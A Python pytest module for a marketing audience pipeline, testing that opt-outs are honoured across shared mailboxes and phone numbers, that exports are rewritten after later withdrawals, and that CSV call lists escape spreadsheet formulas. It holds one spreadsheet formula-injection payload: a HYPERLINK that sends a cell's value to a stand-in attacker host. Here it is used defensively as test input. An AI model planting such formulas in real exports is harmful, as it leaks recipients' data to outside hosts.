"""Who has said no is reached no more: by whoever shares the mailbox or number, whatever the words, also after the audience."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from pyspark.sql import SparkSession

from basketry.access.withdrawals import DELIVERED, withdrawals_of
from basketry.domains.marketing import export
from basketry.domains.marketing.job import read_closed_channels
from basketry.domains.offers.inputs import read_opted_out
from basketry.lake.lakehouse import Lakehouse
from basketry.lake.report import JobReport
from basketry.tables import CUSTOMERS, HANDOVERS, MARKETING_AUDIENCE, OPT_OUTS, ORDER_LINES
from tests.basketry.domains.marketing.shop import AS_OF, SALES, sale
from tests.kit.jobs import run_job
from tests.kit.lake import a_lake, put, stored
from tests.kit.registry import registry_at
from tests.kit.rows import customer, opt_out

pytestmark = pytest.mark.slow

EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
PEOPLE = (
    customer("A01", email="Pat.Doe@example.com", phone=None),
    customer("A02", email="pat.doe@example.com", phone=None),
    customer("A03", email="Pat Doe <PAT.DOE@example.com>", phone=None),
    customer("A04", email=None, phone="+49 30 23125001", country="Germany", state=None, postal_code="10115"),
    customer("A05", email=None, phone="030/23125001", country="Germany", state=None, postal_code="10115"),
    customer("A06", email=None, phone="030 23125006", country="Germany", state=None, postal_code="10115"),
    customer("A07", email=None, name=EVIL),
    customer("A08", email="a08@example.com", phone="(212) 555-0199"),
    customer("A09", email="a09@example.com", phone="1 212 555 0199"),
    customer("A10"),
    customer("A11"),
    customer("A12"),
)
"""01 to 03 share a mailbox, 04 and 05 a number, 08 and 09 another; 06 lives in Berlin, 07 has a formula for a name."""
BEFORE = (("A01", "email"), ("A04", "phone"), ("A10", "carrier pigeon"), ("A11", ""))
AFTER = (("A08", "all"), ("A12", "EMAIL "))


def withdraw(lake: Lakehouse, *said: tuple[str, str]) -> None:
    """These are all opt-outs that are known, none with a day."""
    put(lake, OPT_OUTS, [opt_out(who, word) for who, word in said])


@pytest.fixture(scope="module")
def town(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """An audience as it was before A08 and A12 withdrew, and the export after that."""
    home: Path = tmp_path_factory.mktemp("withdrawals")
    of_the_day = sale("O9", None, "P1", AS_OF, amount="1")  # without it the day counts as not delivered
    with registry_at(f"sqlite:///{home / 'mlflow.db'}"):
        lake = a_lake(spark, home, {CUSTOMERS: PEOPLE, ORDER_LINES: [SALES[0], of_the_day]})
        withdraw(lake, *BEFORE)
        run_job(lake, "audience", as_of=AS_OF)
        run_job(lake, "export_audience", as_of=AS_OF)
        withdraw(lake, *BEFORE, *AFTER)
        rehearsed = run_job(lake, "export_audience", as_of=AS_OF, dry_run=True)
        yield {"lake": lake, "dry": rehearsed, "export": run_job(lake, "export_audience", as_of=AS_OF)}


@pytest.fixture
def people(town: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The audience by customer."""
    return {row["customer_id"]: row for row in stored(town["lake"], MARKETING_AUDIENCE)}


def handed(town: dict[str, Any]) -> dict[str, tuple[str, dict[str, str]]]:
    """Channel and line of the CSV by customer."""
    folder = export.export_folder(town["lake"], AS_OF)
    lines = ((path.name, row) for path in folder.glob("*.csv") for row in csv.DictReader(path.open(newline="")))
    return {row["customer_id"]: (name.split("_", 1)[0], row) for name, row in lines}


def test_a_mailbox_is_withdrawn_for_whoever_shares_it(people: dict[str, dict[str, Any]]) -> None:
    """One of them withdraws: nobody is written to, however the address is written."""
    assert not {"A01", "A02", "A03"} & set(people)


def test_a_number_is_withdrawn_for_whoever_shares_it(people: dict[str, dict[str, Any]]) -> None:
    """In national and international spelling; who has another number in the same town is called."""
    assert not {"A04", "A05"} & set(people)
    assert people["A06"]["phone"] == "+493023125006"
    assert (people["A06"]["time_zone"], people["A06"]["time_zone_from"]) == ("Europe/Berlin", "country")
    assert people["A06"]["call_windows"][0]["starts_at"].hour == 8


def test_a_word_that_nobody_understands_withdraws_everything(people: dict[str, dict[str, Any]]) -> None:
    """In silver of whatever release: never a row without effect, an empty one neither."""
    assert not {"A10", "A11"} & set(people)


def test_the_export_heeds_who_withdrew_since_the_audience(
    town: dict[str, Any], people: dict[str, dict[str, Any]]
) -> None:
    """A08 withdrew everything and is gone; A09 shares the number and is mailed; A12 withdrew mail and is called."""
    assert {"A08", "A09", "A12"} <= set(people)
    channels = {who: channel for who, (channel, _) in handed(town).items()}
    assert channels == {"A06": "phone", "A07": "phone", "A09": "email", "A12": "phone"}
    assert {row["customer_id"]: row["channel"] for row in stored(town["lake"], HANDOVERS)} == channels


def test_the_report_counts_who_withdrew_since(town: dict[str, Any]) -> None:
    """In the run and in its rehearsal."""
    for report in (town["export"], town["dry"]):
        assert isinstance(report, JobReport) and report.details["withdrawn_since"] == 3
        assert any(line.startswith("3 withdrew a channel since the audience was made") for line in report.summary)


def test_files_that_are_written_again_heed_it_too(town: dict[str, Any]) -> None:
    """Whoever writes a day's files (as forgetting does) leaves out who has withdrawn the channel since."""
    lake: Lakehouse = town["lake"]
    withdraw(lake, *BEFORE, *AFTER, ("A06", "phone"), ("A12", "email"))
    try:
        export.write_export(lake, AS_OF)
        assert set(handed(town)) == {"A07", "A09", "A12"}
    finally:
        withdraw(lake, *BEFORE, *AFTER)
        export.write_export(lake, AS_OF)


def deliver_opt_out(lake: Lakehouse, customer: str, day: str) -> None:
    """A file of opt-outs lies in the landing folder."""
    folder = lake.settings.landing_folder(lake.catalog, "opt_outs")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"opt_outs_{day}.csv").write_text(f"customer_no,channel,opted_out_on\n{customer},all,{day}\n")


def test_loading_opt_outs_writes_the_week_s_files_again(town: dict[str, Any]) -> None:
    """Nobody has to think of it: who is loaded as opted out is in no file any more, and the run says which days it wrote."""
    lake: Lakehouse = town["lake"]
    before = handed(town)
    old_folder = export.export_folder(lake, AS_OF - timedelta(days=7))
    shutil.copytree(export.export_folder(lake, AS_OF), old_folder)
    old = {path.name: path.read_bytes() for path in old_folder.iterdir()}
    try:
        deliver_opt_out(lake, "A06", "2026-11-23")
        report = run_job(lake, "ingest", feed="opt_outs")
        assert any(f"files of {AS_OF} written again" in line for line in report.summary), report.summary
        assert set(handed(town)) == set(before) - {"A06"}
        assert not any("written again" in line for line in run_job(lake, "ingest", feed="opt_outs").summary)
        assert {path.name: path.read_bytes() for path in old_folder.iterdir()} == old  # no longer in use
    finally:
        shutil.rmtree(old_folder)
        withdraw(lake, *BEFORE, *AFTER)
        export.write_export(lake, AS_OF)


def test_a_load_that_was_killed_before_is_made_up_for(town: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    """The opt-outs are loaded and the files are not written: the next run does it, though it finds nothing new."""
    lake: Lakehouse = town["lake"]
    before = handed(town)
    try:
        deliver_opt_out(lake, "A07", "2026-11-24")
        with monkeypatch.context() as patch:
            patch.setattr(export, "write_export", lambda lake, day: 1 / 0)
            with pytest.raises(ZeroDivisionError):
                run_job(lake, "ingest", feed="opt_outs")
        assert set(handed(town)) == set(before)
        report = run_job(lake, "ingest", feed="*")
        assert any("written again" in line for line in report.summary)
        assert set(handed(town)) == set(before) - {"A07"}
    finally:
        withdraw(lake, *BEFORE, *AFTER)
        export.write_export(lake, AS_OF)


def test_a_call_list_carries_no_formula(town: dict[str, Any]) -> None:
    """The name is guarded in the CSV and whole in the JSON Lines; the number is as a dialler reads it."""
    _, row = handed(town)["A07"]
    assert (row["name"], row["phone"]) == (f"'{EVIL}", "+12125550107")
    folder = export.export_folder(town["lake"], AS_OF)
    lines = [json.loads(line) for path in folder.glob("phone_*.jsonl") for line in path.read_text().splitlines()]
    assert EVIL in {line["name"] for line in lines}


def test_the_console_knows_the_same_withdrawals(town: dict[str, Any]) -> None:
    """Without Spark: the same customers, mailboxes and numbers as the export's."""
    lake: Lakehouse = town["lake"]
    customers = lake.read(CUSTOMERS).select("customer_id", "email", "phone", "country")
    withdrawals = withdrawals_of(
        lake.read(OPT_OUTS).join(customers, "customer_id", "left").select(*DELIVERED).toArrow(), "US"
    )
    for channel, closed in read_closed_channels(lake).items():
        assert withdrawals.customers[channel] == {row[0] for row in closed.customers.collect()}
        assert withdrawals.addresses[channel] == {row[0] for row in closed.keys.collect()}
    assert withdrawals.closes("email", "A02", "pat.doe@example.com") and not withdrawals.closes(
        "phone", "A06", "+493023125006"
    )
    assert withdrawals.closes("phone", "A09", "+12125550199") and not withdrawals.closes(
        "email", "A09", "a09@example.com"
    )


def test_who_withdrew_everything_is_offered_nothing(town: dict[str, Any]) -> None:
    """By the word for it, and by every word that nobody understands; who wants no mail may be shown offers in the shop."""
    assert read_opted_out(town["lake"]) == {"A08", "A10", "A11"}


def test_a_withdrawal_of_nobody_known_closes_only_theirs() -> None:
    """A customer without a master row has no address that others share."""
    none = pa.array([None], pa.string())
    rows = pa.table({"customer_id": ["G"], "channel": ["all"], "email": none, "phone": none, "country": none})
    withdrawals = withdrawals_of(rows, "US")
    assert withdrawals.closes("phone", "G", None) and not withdrawals.closes("phone", "H", None)
